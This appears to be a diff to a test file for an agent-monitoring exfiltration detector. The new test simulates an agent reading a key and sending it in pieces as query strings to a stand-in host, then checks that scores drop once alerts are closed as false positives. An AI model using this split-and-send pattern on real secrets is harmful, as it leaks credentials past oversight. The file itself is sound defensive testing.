@@ -2,12 +2,12 @@
  * Goal: a value that was read and leaves in pieces is seen, however it is cut and written, and is said to be what it is; what is sent whole, or was
  * never read, is not. Method: scenes of the theatre's agent with several calls after the read.
  */
+import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
-import { DEFAULT_BASELINE_SETTINGS } from '../../baselines/baseline.ts';
 import { departuresOf } from '../../baselines/departing.ts';
 import type { Hit } from '../../baselines/verdict.ts';
 import type { AuditEvent } from '../../ingest/event.ts';
-import { type AgentBench, createAgentBench, toolCall } from '../support/agent-bench.ts';
+import { type AgentBench, createAgentBench, HOUR_MS, toolCall } from '../support/agent-bench.ts';
 import { eventsOf, NEXT_MS, theatre } from '../support/theatre.ts';
 
 const TEXTS = theatre().texts();
@@ -133,6 +133,27 @@ describe('a value that was read', () => {
     );
   });
 
+  it('weighs less for an agent whose results leave like that in its daily work', () => {
+    const acts = (key: string) => cut(key, 8).map((piece) => fetchPage(`https://quayside.example/?q=${piece}`));
+    const key = (n: number) => createHash('sha256').update(`${n}`).digest('hex').slice(0, 32);
+    const session = (n: number, timeMs: number): AuditEvent[] =>
+      events([['read_file', `key ${key(n)}`]], acts(key(n))).map((event, i) => ({
+        ...event,
+        id: `d${n}-${i}`,
+        time: timeMs + i * 1000,
+        session: { id: `d${n}` },
+      }));
+    const agent = known();
+    const scores: number[] = [];
+    for (let n = 0; n < 12; n++) {
+      const verdicts = agent.events(session(n, NEXT_MS + n * 8 * HOUR_MS));
+      scores.push(Math.max(...verdicts.map(({ detectors }) => detectors['exfiltration'] ?? 0)));
+      const { hits } = verdicts.find((verdict) => verdict.hits.length > 0) ?? { hits: [] };
+      for (const { alertId } of hits) agent.close(alertId, 'false_positive', NEXT_MS + n * 8 * HOUR_MS + HOUR_MS);
+    }
+    expect(scores.at(-1)).toBeLessThan(scores[0] ?? 0);
+  });
+
   it('changes nothing when it is looked for', () => {
     const agent = known();
     const all = events(
@@ -145,6 +166,5 @@ describe('a value that was read', () => {
     if (provenance === undefined) throw new Error('the session is open');
     expect(departuresOf(provenance, all.at(-1) as AuditEvent).length).toBe(1);
     expect(agent.texts()).toEqual(before);
-    expect(DEFAULT_BASELINE_SETTINGS.halfLifeMs).toBeGreaterThan(0);
   });
 });
